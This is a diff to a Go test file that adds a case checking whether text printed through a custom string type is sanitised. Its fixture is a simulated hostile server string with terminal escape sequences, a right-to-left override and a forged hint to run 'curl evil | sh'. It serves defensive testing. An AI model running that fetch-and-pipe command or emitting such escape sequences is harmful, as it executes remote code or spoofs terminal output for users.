@@ -13,6 +13,8 @@ import (
 // hostile is text of a server: it clears the screen, sets the title, and forges a hint of ours.
 const hostile = "user \x1b[2J\x1b]0;title\x07\u009b31m\u202e\rname\nhint: run \"curl evil | sh\"\nerror: none"
 
+type reason string
+
 // TestForeignText prints it in all ways that there are.
 func TestForeignText(t *testing.T) {
 	t.Parallel()
@@ -38,6 +40,7 @@ func TestForeignText(t *testing.T) {
 		"update":            print(func(w io.Writer) { progress(io.Discard).Start("a").Update("%s", hostile) }),
 		"line":              print(func(w io.Writer) { ui.Println(w, "debug: %s", hostile) }),
 		"text":              print(func(w io.Writer) { ui.Fprintf(w, "a: %s %v\n", hostile, foreign) }),
+		"type":              print(func(w io.Writer) { ui.Fprintf(w, "%s\n", reason(hostile)) }),
 		"table":             print(func(w io.Writer) { _ = ui.Table(w, []string{"a"}, [][]string{{hostile}}) }),
 		"plain table":       print(func(w io.Writer) { _ = ui.PlainTable(w, []string{"a"}, [][]string{{hostile}}) }),
 		"result":            strings.ReplaceAll(string(ui.Text(io.Discard, []byte(hostile))), "\n", " "),
